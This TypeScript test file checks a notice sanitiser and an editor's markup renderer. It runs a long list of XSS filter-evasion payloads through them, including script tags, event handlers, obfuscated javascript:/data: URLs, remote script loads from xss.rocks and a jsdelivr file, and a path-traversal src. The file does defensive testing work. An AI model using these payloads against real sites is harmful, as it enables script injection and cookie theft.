/**
 * Known XSS filter-evasion vectors (OWASP XSS Filter Evasion Cheat Sheet, html5sec.org, and
 * markdown link tricks), each run through the notice sanitiser (canonical HTML, RichText nodes,
 * plain text, image ids) and through the editor's markup renderer (HTML and preview nodes).
 * The outputs are walked, not pattern-matched: the HTML is parsed again with htmlparser2 and every
 * node, element, attribute and URL is checked against the allowlist written out here.
 */
import { parseDocument } from 'htmlparser2'
import type { RichNode } from '../../contracts/notices'
import { markupToHtml, markupToNodes } from '../../src/features/notices/markup'
import { sanitizeBody } from '../../server/notices/sanitize'

const TAGS = new Set(['h2', 'h3', 'h4', 'p', 'br', 'ul', 'ol', 'li', 'blockquote', 'strong', 'em', 'a', 'img'])
const ATTRS: Record<string, string[]> = { a: ['href'], img: ['src', 'alt'] }
const HREF = /^(https?:\/\/[^/]|mailto:[^@\s]+@)/i
/** The sanitiser keeps files of the app's store only; the editor's preview may show http(s) images. */
const STORE_SRC = /^(cloud|local):\/\/[A-Za-z0-9._\-/]+$/
const PREVIEW_SRC = /^((cloud|local):\/\/[A-Za-z0-9._\-/]+|https?:\/\/\S+)$/
/** What a browser ignores inside a URL's scheme. */
const IGNORED = /[\u0000-\u0020\u007f-\u009f\u00a0\u1680\u2000-\u200f\u2028\u2029\u202f\u205f\u3000\ufeff]/g
const BAD_SCHEME = /^(javascript|vbscript|livescript|data|mocha|feed):/i

type Src = RegExp
function checkAttr(tag: string, name: string, value: string, src: Src) {
  if (/^on/i.test(name)) throw new Error(`event handler ${name} on <${tag}>`)
  if (!(ATTRS[tag] ?? []).includes(name)) throw new Error(`attribute ${name} on <${tag}>`)
  const url = value.replace(IGNORED, '')
  if (name !== 'alt' && BAD_SCHEME.test(url)) throw new Error(`${url.slice(0, 12)} URL in ${tag}[${name}]`)
  if (name === 'href' && !HREF.test(value)) throw new Error(`href ${value}`)
  if (name === 'src' && (!src.test(value) || value.includes('..'))) throw new Error(`src ${value}`)
}

type Dom = { type: string; name?: string; attribs?: Record<string, string>; data?: string; children?: Dom[] }
/** Parses the HTML again and walks every node; returns its text content (with image alt markers). */
function assertSafeHtml(html: string, src: Src): string {
  // No `<` that does not open or close an allowlisted tag (text is escaped).
  const stray = /<(?!\/?(h2|h3|h4|p|br|ul|ol|li|blockquote|strong|em|a|img)[\s>])/i.exec(html)
  if (stray) throw new Error(`stray "<" at ${stray.index}: ${html.slice(stray.index, stray.index + 20)}`)
  let text = ''
  const walk = (nodes: Dom[]) => {
    for (const node of nodes) {
      if (node.type === 'text') {
        text += node.data
        continue
      }
      if (node.type !== 'tag') throw new Error(`${node.type} node in the output`)
      if (!TAGS.has(node.name!)) throw new Error(`element <${node.name}>`)
      for (const [name, value] of Object.entries(node.attribs ?? {})) checkAttr(node.name!, name, value, src)
      if (node.name === 'img' && node.attribs?.alt) text += `[图片：${node.attribs.alt}]`
      walk(node.children ?? [])
    }
  }
  walk(parseDocument(html).children as unknown as Dom[])
  return text
}

function assertSafeNodes(nodes: RichNode[], src: Src) {
  for (const node of nodes) {
    if (node.type === 'text') {
      if (Object.keys(node).sort().join() !== 'text,type' || typeof node.text !== 'string') throw new Error(`text node ${JSON.stringify(node)}`)
      continue
    }
    if (node.type !== undefined || !TAGS.has(node.name ?? '')) throw new Error(`node ${JSON.stringify(node).slice(0, 80)}`)
    for (const [name, value] of Object.entries(node.attrs ?? {})) checkAttr(node.name!, name, value, src)
    assertSafeNodes(node.children ?? [], src)
  }
}

const squash = (s: string) => s.replace(/\s+/g, '')

function assertSafeBody(input: string) {
  const body = sanitizeBody(input)
  const htmlText = assertSafeHtml(body.html, STORE_SRC)
  assertSafeNodes(body.nodes, STORE_SRC)
  // The plain text is the HTML's text, nothing else.
  if (squash(body.text) !== squash(htmlText)) throw new Error(`plain text ${JSON.stringify(body.text)} is not the HTML's text ${JSON.stringify(htmlText)}`)
  for (const id of body.images) if (!STORE_SRC.test(id) || !body.html.includes(`src="${id}"`)) throw new Error(`image id ${id}`)
  // Sanitising the output again changes nothing.
  if (sanitizeBody(body.html).html !== body.html) throw new Error('not idempotent')
}

function assertSafeMarkup(input: string) {
  const html = markupToHtml(input)
  assertSafeHtml(html, PREVIEW_SRC)
  assertSafeNodes(markupToNodes(input), PREVIEW_SRC)
  // … and what the editor sends is sanitised like any other body.
  assertSafeBody(html)
}

const VECTORS: string[] = [
  // ---- OWASP XSS Filter Evasion Cheat Sheet
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  `<IMG SRC="\`('XSS')"\``,
  '<iframe src=http://xss.rocks/scriptlet.html <',
  `\\";alert('XSS');//`,
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  '<IMG SRC="livescript:[code]">',
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  '<XSS STYLE="behavior: url(xss.htc);">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
  '<A HREF="//www.google.com/">XSS</A>',
  // ---- html5sec.org
  '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<video><source onerror="alert(1)">',
  '<video poster=javascript:alert(1)//></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onscroll=alert(1)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>',
  '<form><button formaction="javascript:alert(1)">X</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<frameset onload=alert(1)>',
  '<table background="javascript:alert(1)"></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<comment><img src="</comment><img src=x onerror=alert(1)//">',
  '<![><img src="]><img src=x onerror=alert(1)//">',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img src="</title><img src=x onerror=alert(1)//">',
  '<noscript><img src="</noscript><img src=x onerror=alert(1)//">',
  '<xmp><img src="</xmp><img src=x onerror=alert(1)//">',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)//">',
  '<noframes><p title="</noframes><script>alert(1)</script>"></noframes>',
  '<iframe><p title="</iframe><svg onload=alert(1)>"></iframe>',
  '<plaintext><script>alert(1)</script>',
  '<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(2)">CLICKME</maction></math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a></svg>',
  '<svg><script xlink:href=data:,alert(1) />',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>X</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C%2Fscript%3E"></iframe>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>test</a>',
  '<div style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))">x</div>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?><p>x</p>',
  '<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<!--><script>alert(1)</script>-->',
  '<!-- <script>alert(1)</script>',
  '<!-- --!><script>alert(1)</script> -->',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<div/onmouseover=\'alert(1)\'> style="x:">',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '<a href="javascript:void(0)" onmouseover=&NewLine;javascript:alert(1)&NewLine;>X</a>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // ---- scripts in other casings and spellings, broken tags
  '<ScRiPt >alert(1)</ScRiPt >',
  '<script\ttype="text/javascript">alert(1)</script>',
  '<script\f>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script<script>>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<p title="x"><img src=x onerror=alert(1)>">正文</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="local://notices/a/b.png" alt="&quot; onerror=&quot;alert(1)">',
  '<img src="local://notices/a/b.png" onerror=alert(1) srcset="javascript:alert(1)">',
  '<img src="cloud://env/notices/../../etc/passwd">',
  '<p style="background:url(javascript:alert(1))" class=x id=y>t</p>',
  '<a href="https://ok.example/" onclick="alert(1)" target=_blank>ok</a>',
  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://a.example" xlink:href="javascript:alert(1)">a</a>',
  // ---- javascript:/vbscript:/data: links, obfuscated
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="java&#x00;script:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="javas&NewLine;cript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
  '<a href=" vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="mailto:x@y.z?body=<script>">x</a>',
  // ---- the editor's markup
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\\script:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](local://notices/a/b.png)',
  '[a](https://a.com"onmouseover="alert(1))',
  '[a](https://a.com "onmouseover=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '**<img src=x onerror=alert(1)>**',
  '# <script>alert(1)</script>\n- <svg onload=alert(1)>\n> <iframe src=javascript:alert(1)>',
  'https://a.com/"><script>alert(1)</script>',
  'javascript:alert(1)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  // ---- deep nesting, unterminated markup
  '<div>'.repeat(500) + '<script>alert(1)</script>' + '</div>'.repeat(500),
  '<b><i><u><a href="javascript:alert(1)"><img src=x onerror=alert(1)',
  '<a href="https://a.example"><a href="javascript:alert(1)">nested</a></a>'
]

test('there are enough vectors', () => {
  expect(VECTORS.length).toBeGreaterThanOrEqual(80)
  expect(new Set(VECTORS).size).toBe(VECTORS.length)
})

test('the checks fail on unsafe output (so the table can fail)', () => {
  for (const html of ['<script>alert(1)</script>', '<p onclick="x">a</p>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="data:text/html,x">x</a>', '<p style="x">a</p>', '<svg></svg>', '<!-- c -->', '<img src="https://evil.example/x.png">', '<p>a < b</p>']) {
    expect(() => assertSafeHtml(html, STORE_SRC)).toThrow()
  }
  expect(() => assertSafeNodes([{ name: 'a', attrs: { href: ' javascript:alert(1)' } }], PREVIEW_SRC)).toThrow()
  expect(() => assertSafeNodes([{ name: 'p', attrs: { onclick: 'x' } }], PREVIEW_SRC)).toThrow()
  expect(() => assertSafeNodes([{ name: 'iframe' }], PREVIEW_SRC)).toThrow()
  expect(() => assertSafeNodes([{ type: 'text', text: 'x', name: 'script' }], PREVIEW_SRC)).toThrow()
})

test.each(VECTORS.map((v, i) => [i, v]))('vector %i: sanitiser', (_i, vector) => {
  assertSafeBody(vector as string)
})

test.each(VECTORS.map((v, i) => [i, v]))('vector %i: editor markup', (_i, vector) => {
  assertSafeMarkup(vector as string)
})
